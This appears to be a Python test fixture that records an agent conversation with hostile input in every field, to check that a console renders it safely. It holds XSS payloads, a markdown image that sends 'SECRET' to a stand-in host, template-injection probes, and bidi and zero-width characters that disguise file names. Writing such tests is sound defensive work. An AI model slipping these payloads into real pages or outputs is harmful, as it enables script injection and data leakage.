"""A conversation in which everything that a writer can choose is an attack on whoever looks at it."""

from __future__ import annotations

from contextlib import suppress
from dataclasses import dataclass
from uuid import UUID

import turnledger
from tests.console.story import Told, whole_turn
from turnledger.capture.ledger import Ledger

MARKUP = (
    "</script><script>alert(1)</script>"
    "\"'><img src=x onerror=alert(2)>"
    "<svg/onload=alert(3)><iframe srcdoc='<script>alert(4)</script>'>"
    "<link rel=prefetch href=//evil.example><style>*{display:none}</style>"
    " [x](javascript:alert(5)) ![p](https://evil.example/p.png?q=SECRET) javascript:alert(6)"
    " data:text/html,<script>alert(7)</script> {{7*7}} ${7*7} %3Cscript%3E &lt;b&gt;"
)
HIDDEN = "\u202egpj.exe\u202c pay\u200bpal \u2066a\u2069 \ufeff\u00ad \x07\x1b[31mred"
"""Direction overrides and isolates, zero widths, controls."""
SHOWN = ("U+202E", "U+202C", "U+200B", "U+2066", "U+2069", "U+FEFF", "U+00AD", "U+0007", "U+001B")
NAME = f"{MARKUP} {HIDDEN}"
CONNECTOR = "javascript:alert(8)"
LONG_LINE = "x" * 10_000_000
DEEP = "[" * 20_000 + "]" * 20_000
DIGITS = "9" * 300
SURROGATES = r'{"lone": "\ud800 and \udfff", "nul": "\u0000"}'
BODIES = (
    ("long_line", LONG_LINE, "text/plain"),
    ("deep", DEEP, "application/json"),
    ("digits", f'{{"digits": {DIGITS}, "neighbour": "well"}}', "application/json"),
    ("surrogates", SURROGATES, "application/json"),
    ("half", "half \ud83d a pair", "text/plain"),
    ("picture", f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(9)'>{MARKUP}</svg>", "image/svg+xml"),
    ("document", f"<!doctype html><body onload='alert(10)'>{MARKUP}", "text/html"),
)


@dataclass
class Hostile(Told):
    """What was recorded, with the conversation in which all is well."""

    calm: UUID


def attack(url: str) -> Hostile:
    """Record it, beside a conversation in which all is well."""
    with turnledger.open(url) as ledger:
        calm = ledger.agent("calm").conversation(
            "all is well", connector="slack", shape="thread", place="C042"
        )
        whole_turn(calm)
        return in_every_place(ledger, calm.id)


def in_every_place(ledger: Ledger, calm: UUID) -> Hostile:
    """One conversation with a hostile name wherever there may be one."""
    agent = ledger.agent(NAME)
    talk = agent.conversation(NAME, connector=CONNECTOR, shape="dm", place=NAME)
    message = talk.inbound(NAME, actor=NAME, external_id=NAME)
    message.verdict("engage", reason=NAME, by=NAME)
    request = {
        "model": NAME,
        "messages": [{"role": NAME, "content": NAME}, {"role": "user", "content": [{"type": NAME}]}],
        "tools": [{"type": "function", "function": {"name": NAME, "description": NAME}}],
        NAME: NAME,
    }
    asked = [{"id": NAME, "type": "function", "function": {"name": NAME, "arguments": NAME}}]
    reply = {"model": NAME, "choices": [{"message": {"content": NAME, "tool_calls": asked}}]}
    with talk.turn(trigger=message, tags=[NAME]) as turn:
        turn.guard(NAME, "deny", stage=NAME, finding=NAME)
        with turn.model_call(role=NAME, model=NAME, request=request) as call:
            call.result(reply)
        with turn.tool_call(NAME, supplied=NAME, validated={NAME: NAME}, call_id=NAME) as tool:
            turn.approval(tool, question=NAME).decide("granted", by=NAME, reason=NAME)
            tool.result({NAME: NAME})
        turn.progress(NAME, kind=NAME)
        turn.memory_write(NAME, NAME)
        turn.budget(NAME, limit=1, used=1, outcome="warn")
        turn.verify(NAME, "fail", finding=NAME)
        turn.commit(NAME)
    talk.outbound(NAME, external_id=NAME).delivery("failed", problem=NAME)
    talk.inbound(NAME, actor=NAME).shed("stale", age_ms=2, stale_ms=1)
    failed = talk.turn()
    with suppress(Exception), failed:
        raise type(NAME.replace("\0", ""), (Exception,), {})(NAME)
    with agent.conversation("bodies").turn() as bodies:
        for name, body, kind in BODIES:
            with bodies.tool_call(name, supplied="{}") as tool:
                tool.result(body, media_type=kind)
        bodies.commit("done")
    turns = {"named": turn.id, "failed": failed.id, "bodies": bodies.id}
    return Hostile(agent.id, talk.id, turns, calm)
